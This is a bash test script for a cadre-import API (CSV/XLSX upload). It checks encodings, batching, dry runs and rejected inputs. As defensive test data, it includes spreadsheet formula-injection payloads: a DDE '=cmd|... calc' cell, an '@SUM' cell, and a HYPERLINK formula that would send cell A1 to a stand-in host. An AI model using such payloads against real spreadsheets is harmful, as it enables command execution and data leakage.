#!/usr/bin/env bash
# Importing cadres with their positions from a file (POST /api/v1/imports/cadres): the template,
# a dry run, a good file imported and imported again with nothing changed, a GB18030 file, and
# every kind of bad input the issue lists, each refused with nothing written. The sibling-county
# cases are in jurisdiction.sh.
source "$(dirname "$0")/lib.sh"
source "$(dirname "$0")/cadre_helpers.bash"
source "$(dirname "$0")/import_helpers.bash"

for user in heping-clerk heping-viewer shenhe-clerk; do
    login "$user"
    expect_status 201 "$user logs in"
done
named=$(make_org 210102001 4 '浑河湾街道导入测试妇委会' 2023-03-01)
federation=$(sql "SELECT id FROM organisation WHERE federation_of = '210102001'")
check "the township has its federation" test -n "$federation"
f=$TEST_TMP

# --- The template -------------------------------------------------------------------------------

as heping-viewer GET /api/v1/imports/cadres/template
expect_status 200 "anyone signed in gets the template"
expect_header Content-Type '^text/csv; charset=utf-8$'
expect_header Content-Disposition 'attachment; filename="cadres-template.csv"'
check "the template starts with a UTF-8 byte order mark" \
    test "$(head -c 3 "$TEST_TMP/body" | od -An -tx1 | tr -d ' ')" = efbbbf
expect_eq "$(sed -n 1p "$TEST_TMP/body" | tail -c +4 | tr -d '\r')" "$IMPORT_HEADER" \
    "the template's first line is the Chinese headers"
check "its note line says which values a column allows" grep -q '必填：女、男' "$TEST_TMP/body"
check "... and is a note line the import skips" test "$(sed -n 2p "$TEST_TMP/body" | head -c 1)" = '#'
as heping-viewer GET '/api/v1/imports/cadres/template?format=json'
expect_status 200
expect_json '.columns[] | select(.field == "role") | .allowed' \
    '["主席","副主席","常委","执委","妇代会主任","妇女工作联络员"]' "the columns as JSON, with the allowed values"

# --- A good file: dry run, import, import again -------------------------------------------------

{
    echo "$IMPORT_HEADER"
    import_row 210102001 '' 孙丽 1980-01-02 '' 主席
    import_row 210102001 '浑河湾街道导入测试妇委会' 钱芳 1975-11-30 '' 副主席
    printf '# a note line, skipped\n\n'
    import_row 210102001 '' '=cmd|'"'"' /C calc'"'"'!A0' 1990-07-01
} >"$f/good.csv"
sun_id=$(sed -n 2p "$f/good.csv" | cut -d, -f9)
formula_id=$(sed -n 6p "$f/good.csv" | cut -d, -f9)

before=$(state)
upload heping-clerk "$f/good.csv" '?dry_run=true'
expect_status 200 "a dry run of a good file"
expect_json '[.dry_run, .committed, .rows, .people.created, .positions.added, .error_count]' \
    '[true,false,3,3,3,0]' "the dry run counts what would change"
expect_eq "$(state)" "$before" "the dry run writes nothing"

# A dry run does not keep the statistics' counts (it is rolled back); the workers that ran one
# keep counting afterwards: after dry runs on many of them, the import's offices are counted.
for _ in $(seq 12); do
    upload heping-clerk "$f/good.csv" '?dry_run=true'
done
expect_status 200 "more dry runs"
expect_eq "$(state)" "$before" "... which write nothing either"

before_audit=$(sql "SELECT MAX(id) FROM audit_log")
upload heping-clerk "$f/good.csv"
expect_status 200 "a good file is imported"
expect_eq "$(kept_differs)" 0 "the statistics' kept counts hold the imported offices"
expect_json '[.dry_run, .committed, .rows, .people, .positions, .error_count]' \
    '[false,true,3,{"created":3,"updated":0,"unchanged":0},{"added":3,"held_already":0},0]'
expect_eq "$(sql "SELECT p.name, p.region, o.name, x.role, x.in_two_committees, x.start_date
                  FROM person p JOIN position x ON x.person_id = p.id
                  JOIN organisation o ON o.id = x.organisation_id WHERE p.id_number = '$sun_id'")" \
    "孙丽 210102001 $(sql "SELECT name FROM organisation WHERE id = $federation") chair 1 2024-01-15" \
    "a row without an organisation name goes to the region's federation"
expect_eq "$(sql "SELECT COUNT(*) FROM position WHERE organisation_id = $named")" 1 \
    "a row naming an organisation goes to it"
expect_eq "$(sql "SELECT entity, action FROM audit_log WHERE id > $before_audit ORDER BY id" | sort | uniq -c |
    awk '{ printf "%s %s %s|", $1, $2, $3 }')" \
    "1 cadre_import import|3 person create|3 position create|" \
    "every row's changes and the import itself are in the audit log"
expect_eq "$(sql "SELECT name FROM person WHERE id_number = '$formula_id'")" "=cmd|' /C calc'!A0" \
    "a formula-looking cell is stored as the text it is"
formula_person=$(sql "SELECT id FROM person WHERE id_number = '$formula_id'")
as heping-clerk GET "/api/v1/cadres/$formula_person"
expect_json .name "\"=cmd|' /C calc'!A0\"" "... and comes back as that text, not run"

before=$(state)
upload heping-clerk "$f/good.csv"
expect_status 200 "the same file imported again"
expect_json '[.committed, .people, .positions]' \
    '[true,{"created":0,"updated":0,"unchanged":3},{"added":0,"held_already":3}]' \
    "the second import finds everyone and every position there already"
expect_eq "$(state)" "$before" "importing the same file again changes nothing"

# A changed mobile number updates the person, with its audit entry.
sed '2s/13900001111/13900002222/' "$f/good.csv" >"$f/changed.csv"
upload heping-clerk "$f/changed.csv"
expect_json '[.people, .positions.added]' '[{"created":0,"updated":1,"unchanged":2},0]' \
    "a row with changed data updates the person"
expect_eq "$(sql "SELECT mobile, version FROM person WHERE id_number = '$sun_id'")" "13900002222 2"

# A file larger than a batch (the audit entries are written and the persons looked up a
# hundred at a time, the new people and positions written 256 at a time, the rest of a batch in
# statements of 32, 8 and 4 rows): every row and entry is written, and a second import finds
# every person.
{
    echo "$IMPORT_HEADER"
    for i in $(seq 100 399); do
        day=$(printf '%02d' $((i % 28 + 1)))
        import_row 210102001 '' "批量$i" "1966-03-$day" "$(id_with_check "650103196603$day$i")"
    done
} >"$f/batch.csv"
before_audit=$(sql "SELECT MAX(id) FROM audit_log")
upload heping-clerk "$f/batch.csv"
expect_json '[.people.created, .positions.added]' '[300,300]' "300 rows in one file"
expect_eq "$(sql "SELECT COUNT(*), COUNT(DISTINCT entity_id) FROM audit_log WHERE id > $before_audit
                  AND entity = 'person'")" "300 300" "each new person has her audit entry"
expect_eq "$(sql "SELECT COUNT(*) FROM audit_log WHERE id > $before_audit")" 601 \
    "... and each position, and the import itself"
expect_eq "$(sql "SELECT COUNT(*) FROM audit_log a JOIN person p ON p.id = a.entity_id
                  JOIN position x ON x.person_id = p.id
                  WHERE a.id > $before_audit AND a.entity = 'person' AND p.name LIKE '批量%'
                  AND JSON_VALUE(a.after_data, '$.id_number') = p.id_number
                  AND p.birth_date = JSON_VALUE(a.after_data, '$.birth_date')")" 300 \
    "every entry names the person it is about"
expect_eq "$(sql "SELECT COUNT(*) FROM audit_log a JOIN position x ON x.id = a.entity_id
                  WHERE a.id > $before_audit AND a.entity = 'position'
                  AND JSON_VALUE(a.after_data, '$.person_id') = x.person_id")" 300 \
    "... and every position's entry its position"
expect_eq "$(sql "SELECT GROUP_CONCAT(DISTINCT CONCAT(SUBSTRING(p.name, 3) = SUBSTRING(p.id_number, 15, 3),
                  ' ', x.region, ' ', x.role)) FROM person p JOIN position x ON x.person_id = p.id
                  WHERE p.name LIKE '批量%'")" "1 210102001 executive_member" \
    "each row's person holds her row's position"
before=$(state)
upload heping-clerk "$f/batch.csv"
expect_json '[.people, .positions.held_already]' '[{"created":0,"updated":0,"unchanged":300},300]' \
    "the second import finds all 300"
expect_eq "$(state)" "$before"
# People on the roll and new ones in one batch, one of the former with a new office.
{
    sed -n '1p;2,5p' "$f/batch.csv"
    sed -n 6p "$f/batch.csv" | sed 's/,执委,/,常委,/'
    for i in 400 401 402; do
        import_row 210102001 '' "批量$i" 1966-04-01 "$(id_with_check "65010319660401$i")"
    done
} >"$f/mixed-batch.csv"
upload heping-clerk "$f/mixed-batch.csv"
expect_json '[.people, .positions]' \
    '[{"created":3,"updated":0,"unchanged":5},{"added":4,"held_already":4}]' \
    "a batch of people on the roll and new ones"
expect_eq "$(sql "SELECT GROUP_CONCAT(x.role ORDER BY x.id) FROM person p JOIN position x ON x.person_id = p.id
                  WHERE p.name = '批量104'")" "executive_member,standing_member" \
    "... who holds her old office and the new one"

# --- GB18030, as a Chinese Excel saves CSV ------------------------------------------------------

{
    echo "$IMPORT_HEADER"
    import_row 210102001 '' 周慧敏 1982-03-04
    import_row 210102001 '浑河湾街道导入测试妇委会' 吴淑芬 1979-05-06
} | iconv -f UTF-8 -t GB18030 >"$f/gb.csv"
check "the GB18030 file is not UTF-8" bash -c "! iconv -f UTF-8 -t UTF-8 '$f/gb.csv' >/dev/null 2>&1"
zhou_id=$(iconv -f GB18030 -t UTF-8 "$f/gb.csv" | sed -n 2p | cut -d, -f9)
upload heping-clerk "$f/gb.csv"
expect_status 200 "a GB18030 file is imported"
expect_json '.people.created' 2
expect_eq "$(sql "SELECT name, ethnicity, education FROM person WHERE id_number = '$zhou_id'")" \
    "周慧敏 汉族 bachelor" "its Chinese text arrives as UTF-8"
# The same content in UTF-8 with a byte order mark is the same file: nothing changes.
{ printf '\xef\xbb\xbf'; iconv -f GB18030 -t UTF-8 "$f/gb.csv"; } >"$f/bom.csv"
before=$(state)
upload heping-clerk "$f/bom.csv"
expect_json '[.people.unchanged, .positions.held_already]' '[2,2]' \
    "the same rows in UTF-8 with a byte order mark change nothing"
expect_eq "$(state)" "$before"

# --- XLSX ---------------------------------------------------------------------------------------

# Shared strings, dates as Excel's serial numbers (45306 is 2024-01-15), a formula-looking text.
{
    echo "$IMPORT_HEADER"
    import_row 210102001 '' 韩梅 1981-09-09 | sed 's/,2024-01-15$/,#n45306/'
    import_row 210102001 '浑河湾街道导入测试妇委会' '@SUM(1+1)' 1978-12-12
} >"$f/book.csv"
han_id=$(sed -n 2p "$f/book.csv" | cut -d, -f9)
at_id=$(sed -n 3p "$f/book.csv" | cut -d, -f9)
make_xlsx "$f/book.xlsx" "$f/book.csv"
check "the workbook is a ZIP archive" test "$(head -c 2 "$f/book.xlsx")" = PK
upload heping-clerk "$f/book.xlsx"
expect_status 200 "an XLSX workbook is imported"
expect_json '[.people.created, .positions.added]' '[2,2]'
expect_eq "$(sql "SELECT p.name, x.start_date FROM person p JOIN position x ON x.person_id = p.id
                  WHERE p.id_number = '$han_id'")" "韩梅 2024-01-15" "a date cell's serial number becomes its date"
expect_eq "$(sql "SELECT name FROM person WHERE id_number = '$at_id'")" "@SUM(1+1)" \
    "a formula-looking text cell is stored as text"
before=$(state)
upload heping-clerk "$f/book.xlsx"
expect_json '[.people.unchanged, .positions.held_already]' '[2,2]' "the same workbook again changes nothing"
expect_eq "$(state)" "$before"
# Errors in a workbook name its row and column.
sed 's/,女,/,F,/' "$f/book.csv" >"$f/bad-book.csv"
make_xlsx "$f/bad-book.xlsx" "$f/bad-book.csv"
refused_import 422 invalid_rows heping-clerk "$f/bad-book.xlsx"
expect_eq "$(row_errors)" "2:4:gender:invalid|3:4:gender:invalid" "a workbook's errors have row and column"

# --- Bad input: refused, nothing written --------------------------------------------------------

# Neither CSV nor XLSX.
printf '%%PDF-1.4\n%%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\x00\x00\x01\x02' >"$f/doc.pdf"
refused_import 415 unsupported_file heping-clerk "$f/doc.pdf"
expect_json .error.message '"the file is neither CSV nor XLSX; save the sheet from the spreadsheet program as an Excel workbook (.xlsx) or as CSV (UTF-8) and send that"'
head -c 3000 /dev/urandom >"$f/random.bin"
refused_import 415 unsupported_file heping-clerk "$f/random.bin"

# A truncated XLSX, and a ZIP that is no workbook.
head -c $(($(stat -c %s "$f/book.xlsx") * 2 / 3)) "$f/book.xlsx" >"$f/cut.xlsx"
refused_import 422 invalid_xlsx heping-clerk "$f/cut.xlsx"
check "... saying the file is damaged or cut off" grep -q 'damaged or cut off' <<<"$HTTP_BODY"
(cd "$f" && zip -q notes.zip good.csv)
refused_import 422 invalid_xlsx heping-clerk "$f/notes.zip"
expect_json .error.message '"the workbook has no xl/workbook.xml: is it an Excel workbook (.xlsx)?"'

# 100 MB: refused from its Content-Length before the body is sent (curl waits for
# "100 Continue", which never comes), with the limit in the message.
truncate -s 100M "$f/big.csv"
before=$(state)
read -r code sent < <(curl -sS -o "$f/big-answer" -w '%{http_code} %{size_upload}\n' --max-time 60 \
    -b "$(jar heping-clerk)" -H 'X-Requested-With: XMLHttpRequest' -H 'Content-Type: text/csv' \
    -H 'Expect: 100-continue' --data-binary "@$f/big.csv" "$BASE_URL/api/v1/imports/cadres")
expect_eq "$code" 413 "a 100 MB upload is refused with 413"
check "... before its body was read (sent $sent bytes)" test "$sent" -lt 1048576
expect_eq "$(jq -r .error.message "$f/big-answer")" \
    "The import file is larger than 20 MiB, the limit for imports; split it into smaller files." \
    "... with a message naming the limit"
expect_eq "$(state)" "$before" "the 100 MB upload wrote nothing"
rm -f "$f/big.csv"

# Mixed encodings: a UTF-8 line and a GB18030 line.
{
    echo "$IMPORT_HEADER"
    import_row 210102001 '' 郑小红 1983-08-09
    import_row 210102001 '' 冯丽丽 1984-09-10 | iconv -f UTF-8 -t GB18030
} >"$f/mixed.csv"
refused_import 422 mixed_encoding heping-clerk "$f/mixed.csv"
expect_json .error.message '"line 3 is not UTF-8, but line 1 is: the file mixes encodings; save the whole file again as CSV UTF-8 (or all of it as CSV from a Chinese Excel, GB18030)"'
expect_json '.errors[0].line' 3 "the error names the line"
{ printf '\xef\xbb\xbf'; cat "$f/mixed.csv"; } >"$f/mixed-bom.csv"
refused_import 422 mixed_encoding heping-clerk "$f/mixed-bom.csv"
expect_json '.errors[0].line' 3

# A row in a region outside the jurisdiction (the sibling county 沈河区).
{
    echo "$IMPORT_HEADER"
    import_row 210102001 '' 陈静 1986-01-01
    import_row 210103005 '' 林小燕 1987-02-02
} >"$f/outside.csv"
refused_import 422 invalid_rows heping-clerk "$f/outside.csv"
expect_eq "$(row_errors)" "3:1:region:not_found" "the row outside the jurisdiction is the error"
expect_json '.errors[0].message' '"no federation of region 210103005 in your jurisdiction"'
{
    echo "$IMPORT_HEADER"
    import_row 210102001 '滨河街道机关妇委会' 陈静 1986-01-01
} >"$f/outside-named.csv"
refused_import 422 invalid_rows heping-clerk "$f/outside-named.csv"
expect_eq "$(row_errors)" "2:2:organisation_name:not_found"

# Duplicates inside one file.
dup=$(new_id_number 1988-03-03)
{
    echo "$IMPORT_HEADER"
    import_row 210102001 '' 王丽 1988-03-03 "$dup"
    import_row 210102001 '' 王丽 1988-03-03 "$(new_id_number 1988-03-03)"
    import_row 210102001 '' 王丽 1988-03-03 "$dup" 主席
} >"$f/dup.csv"
refused_import 422 invalid_rows heping-clerk "$f/dup.csv"
expect_eq "$(row_errors)" "4:9:id_number:duplicate" "the second row with the same ID number is the error"
expect_json '.errors[0].message' '"the same ID number is on line 2 already"'

# An empty required column.
{
    echo "$IMPORT_HEADER"
    import_row 210102001 '' '' 1989-04-04
} >"$f/empty.csv"
refused_import 422 invalid_rows heping-clerk "$f/empty.csv"
expect_eq "$(row_errors)" "2:3:name:required" "an empty name is the error, in column 3"
expect_json '.errors[0].column_name' '"姓名"'
# A required column missing altogether.
{
    echo "${IMPORT_HEADER/,任职日期/}"
    import_row 210102001 '' 何敏 1989-05-05 | sed 's/,2024-01-15$//'
} >"$f/nocolumn.csv"
refused_import 422 invalid_rows heping-clerk "$f/nocolumn.csv"
expect_json '[.errors[] | [.line, .code, .message]]' '[[1,"missing_column","the column 任职日期 is missing"]]'

# Every error of a file in one answer, and as a CSV file.
{
    echo "$IMPORT_HEADER"
    import_row 210102001 '' 甲 1970-01-01 | sed 's/,女,/,F,/'
    import_row 210102001 '' 乙 1970-01-02 | sed 's/,本科,/,博士后,/; s/,执委,/,会长,/'
    import_row 210102001 '' 丙 1970-01-03 | sed 's/,2024-01-15$/,2099-01-01/'
    import_row 210102001 '' 丁 1970-01-04 "$(new_id_number 1970-01-05)"
    import_row 210102001 '' 戊 1970-01-06 | sed 's/,13900001111,/,23900001111,/'
} >"$f/many.csv"
refused_import 422 invalid_rows heping-clerk "$f/many.csv"
expect_eq "$(row_errors)" \
    "2:4:gender:invalid|3:7:education:invalid|3:12:role:invalid|4:15:start_date:invalid|5:5:birth_date:invalid|6:10:mobile:invalid" \
    "every bad row is reported, with line and column"
expect_json '[.error_count, .rows, .rows_with_errors]' '[6,5,5]'
expect_json '.errors[0].message' '"must be one of 女、男"' "an enum column names its allowed values in Chinese"
refused_import 422 invalid_rows heping-clerk "$f/many.csv" '?dry_run=true'
before=$(state)
upload heping-clerk "$f/many.csv" '?errors=csv'
expect_status 422 "the errors as a file to download"
expect_header Content-Type '^text/csv'
expect_header Content-Disposition 'attachment; filename="import-errors.csv"'
expect_eq "$(tail -c +4 "$TEST_TMP/body" | tr -d '\r' | sed -n '1p;2p')" \
    $'行号,列,列名,错误代码,错误说明\n2,4,性别,invalid,must be one of 女、男' "the error file lists line, column and reason"
expect_eq "$(tail -c +4 "$TEST_TMP/body" | wc -l)" 7 "... one line per error"
expect_eq "$(state)" "$before"

# What a file sent never comes back as a formula: a header cell that looks like one is written
# into the error file as text (a leading apostrophe), whatever spreadsheet opens it.
printf '%s,"=HYPERLINK(""http://x.example/""&A1)"\n' "$IMPORT_HEADER" >"$f/formula-header.csv"
import_row 210102001 '' 褚红 1971-07-07 | sed 's/$/,x/' >>"$f/formula-header.csv"
upload heping-clerk "$f/formula-header.csv" '?errors=csv'
expect_status 422 "an unknown formula-looking column is an error"
check "... which the error file writes as text, not as a formula" \
    grep -qF '"'"'"'=HYPERLINK(""http://x.example/""&A1)"' "$TEST_TMP/body"
check "... and nowhere as a cell starting with =" bash -c "! grep -qE '(^|,)=' '$TEST_TMP/body'"

# A person on the roll of the sibling county: her ID number cannot be taken over.
shenhe_org=$(sql "SELECT id FROM organisation WHERE federation_of = '210103005'")
create_cadre shenhe-clerk "$(cadre_body 林秀 1981-06-06 "$shenhe_org" chair)"
lin_id=$(sql "SELECT id_number FROM person WHERE id = $CADRE")
{
    echo "$IMPORT_HEADER"
    import_row 210102001 '' 林秀 1981-06-06 "$lin_id"
} >"$f/taken.csv"
refused_import 422 invalid_rows heping-clerk "$f/taken.csv"
expect_eq "$(row_errors)" "2:9:id_number:duplicate" "an ID number on the roll outside the jurisdiction is an error"
# ... also among new people written in one statement: the row is found, nothing is written.
{
    echo "$IMPORT_HEADER"
    import_row 210102001 '' 褚甲 1972-01-01
    import_row 210102001 '' 林秀 1981-06-06 "$lin_id"
    import_row 210102001 '' 褚乙 1972-01-02
    import_row 210102001 '' 褚丙 1972-01-03
} >"$f/taken-among.csv"
refused_import 422 invalid_rows heping-clerk "$f/taken-among.csv"
expect_eq "$(row_errors)" "3:9:id_number:duplicate" "the row whose ID number is taken outside is the error"
expect_json '[.rows, .rows_with_errors, .people.created]' '[4,1,3]'

# Who may import, and what the request must look like.
refused_import 403 forbidden heping-viewer "$f/good.csv"
printf '' >"$f/zero.csv"
refused_import 400 empty_body heping-clerk "$f/zero.csv"
echo "$IMPORT_HEADER" >"$f/header-only.csv"
refused_import 422 invalid_rows heping-clerk "$f/header-only.csv"
expect_json '.errors[0].code' '"empty_file"'
printf 'a,"b\nc\n' >"$f/quote.csv"
refused_import 422 invalid_csv heping-clerk "$f/quote.csv"
refused_import 400 invalid_parameter heping-clerk "$f/good.csv" '?dry_run=maybe'
